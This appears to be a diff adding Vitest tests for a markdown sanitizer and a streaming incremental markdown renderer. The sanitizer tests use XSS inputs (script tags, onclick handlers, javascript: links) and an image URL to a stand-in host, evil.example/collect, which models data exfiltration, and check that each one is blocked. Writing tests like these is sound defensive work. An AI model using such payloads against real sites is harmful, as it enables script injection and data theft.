@@ -1,0 +1,97 @@
+import { describe, expect, it } from 'vitest';
+import { IncrementalMarkdown } from '../../src/lib/markdown/incremental';
+import { renderMarkdown } from '../../src/lib/markdown/sanitize';
+
+function html(fragment: DocumentFragment): string {
+  const div = document.createElement('div');
+  div.append(fragment);
+  return div.innerHTML;
+}
+
+describe('renderMarkdown', () => {
+  it('removes scripts, handlers and javascript: links', () => {
+    const out = html(
+      renderMarkdown(
+        '<script>alert(1)</script><p onclick="x()">hi</p>\n\n[x](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">y</a>',
+      ),
+    );
+    expect(out).not.toMatch(/<script|onclick|javascript:/i);
+    expect(out).toContain('hi');
+  });
+
+  it('gives links rel=noopener noreferrer and keeps only http, https and mailto', () => {
+    const div = document.createElement('div');
+    div.append(
+      renderMarkdown('[a](https://example.com) [b](mailto:x@y.z) [c](data:text/html,hi) [d](ftp://x)'),
+    );
+    const links = [...div.querySelectorAll('a')];
+    expect(links.map((a) => a.getAttribute('href'))).toEqual([
+      'https://example.com',
+      'mailto:x@y.z',
+      null,
+      null,
+    ]);
+    expect(links.every((a) => a.rel === 'noopener noreferrer')).toBe(true);
+  });
+
+  it('holds remote images behind a Load image button instead of loading them', () => {
+    const div = document.createElement('div');
+    div.append(renderMarkdown('![secret](https://evil.example/collect?d=abc)'));
+    expect(div.querySelector('img')).toBeNull();
+    const button = div.querySelector('button');
+    expect(button?.textContent).toBe('Load image');
+    expect(button?.dataset.src).toBe('https://evil.example/collect?d=abc');
+  });
+
+  it('keeps the language class on code blocks', () => {
+    expect(html(renderMarkdown('```python\nprint(1)\n```'))).toContain('class="language-python"');
+  });
+});
+
+describe('IncrementalMarkdown', () => {
+  const doc =
+    '# Title\n\nIntro with **bold**.\n\n- one\n- two\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd [link][ref].\n\n[ref]: https://example.com\n';
+
+  it('seals finished blocks and never re-renders them', () => {
+    const root = document.createElement('div');
+    const view = new IncrementalMarkdown(root);
+    view.update('# Title\n\nIntro');
+    const sealed = root.querySelector('.md-sealed h1');
+    expect(sealed?.textContent).toBe('Title');
+    view.update('# Title\n\nIntro with more\n\nNext');
+    expect(root.querySelector('.md-sealed h1')).toBe(sealed);
+    expect(view.sealedBlocks).toBe(2);
+  });
+
+  it('does not seal inside an open code fence or a list that may go on', () => {
+    const root = document.createElement('div');
+    const view = new IncrementalMarkdown(root);
+    view.update('```\ncode\n\nmore code\n\nstill');
+    expect(view.sealedBlocks).toBe(0);
+    expect(root.querySelector('.md-tail pre code')?.textContent).toContain('still');
+    const list = new IncrementalMarkdown(document.createElement('div'));
+    list.update('1. one\n\n2');
+    expect(list.sealedBlocks).toBe(0);
+  });
+
+  it('ends equal to a full render, whatever the chunking', () => {
+    const expected = html(renderMarkdown(doc));
+    for (const size of [1, 3, 7, 20]) {
+      const root = document.createElement('div');
+      const view = new IncrementalMarkdown(root);
+      for (let i = size; i < doc.length; i += size) view.update(doc.slice(0, i));
+      view.finish(doc);
+      expect(root.innerHTML).toBe(expected);
+    }
+  });
+
+  it('shows a cursor at the end while streaming and none after finish', () => {
+    const root = document.createElement('div');
+    const view = new IncrementalMarkdown(root);
+    view.update('Hello **wor');
+    expect(root.querySelector('.cursor')).not.toBeNull();
+    expect(root.querySelector('strong')?.textContent).toContain('wor');
+    view.finish('Hello **world**');
+    expect(root.querySelector('.cursor')).toBeNull();
+  });
+});
